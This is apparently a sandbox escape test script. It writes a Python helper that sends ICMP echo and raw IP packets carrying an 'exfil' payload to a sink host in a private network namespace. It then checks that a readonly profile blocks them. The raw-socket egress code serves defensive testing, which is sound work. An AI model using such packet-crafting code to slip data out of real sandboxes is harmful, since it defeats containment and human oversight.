#!/bin/sh
# E47: other socket families and types reaching 203.0.113.7 (in the
# private netns): ICMP ping sockets and raw IP sockets (ICMP tunnels).
# AF_PACKET injection is not covered: frames written on lo in a private
# netns were not delivered to the local stack here (no positive control).
. "$top_srcdir/tests/escapes/lib.sh"
esc_in_netns
esc_setup
sysctl -qw net.ipv4.ping_group_range="0 2147483647" 2>/dev/null || :
sink_start udp 5355
cat >"$T/fam.py" <<PYEOF
import socket, struct, sys, time
mode = sys.argv[1]
dst = "$SINK_ADDR"
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return (~s) & 0xffff
if mode in ("ping", "raw"):
    if mode == "ping":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    hdr = struct.pack("!BBHHH", 8, 0, 0, 0x1234, 1) + b"exfil"
    hdr = hdr[:2] + struct.pack("!H", csum(hdr)) + hdr[4:]
    s.sendto(hdr, (dst, 0))
    s.settimeout(2)
    data = s.recv(1024)
    print("reply", len(data))
else:
    udp = struct.pack("!HHHH", 40000, 5355, 8 + 6, 0) + b"packet"
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton("127.0.0.1"), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    frame = b"\0" * 12 + b"\x08\x00" + ip + udp
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    if mode == "packet":
        s.sendto(frame, ("lo", 0x0800))
    else:  # bind to lo, then send() without an address
        s.bind(("lo", 0x0800)); s.send(frame)
    print("sent")
PYEOF
for mode in ping raw; do
	sink_reset
	bare "$PY" "$T/fam.py" $mode
	sleep 0.2
	case $mode in
	ping|raw) grep -q reply "$O/bare.out" || esc_control_failed "$mode: no echo reply from $SINK_ADDR bare: $(cat "$O/bare.out")" ;;
	*) sink_wait || esc_control_failed "$mode: the injected frame did not reach the UDP sink bare: $(cat "$O/bare.out")" ;;
	esac
	sink_reset
	under readonly -- "$PY" "$T/fam.py" $mode
	sleep 0.2
	grep -q reply "$OUT" && esc_bypass "$mode: ICMP echo to $SINK_ADDR answered under --profile readonly"
	[ "$(sink_hits)" = 0 ] || esc_bypass "$mode: an AF_PACKET frame reached $SINK_ADDR:5355 under --profile readonly"
	if [ $mode = raw ] && grep -q "Operation not permitted" "$OUT"; then
		# For root the kernel refuses the raw socket itself: the
		# command has no CAP_NET_RAW (privs.c); the report names the
		# capability layer that held.
		report_has '"capabilities:docker-default" in outcome["enforcement"]["layers"]'
	else
		report_has 'denied_run()'
	fi
done
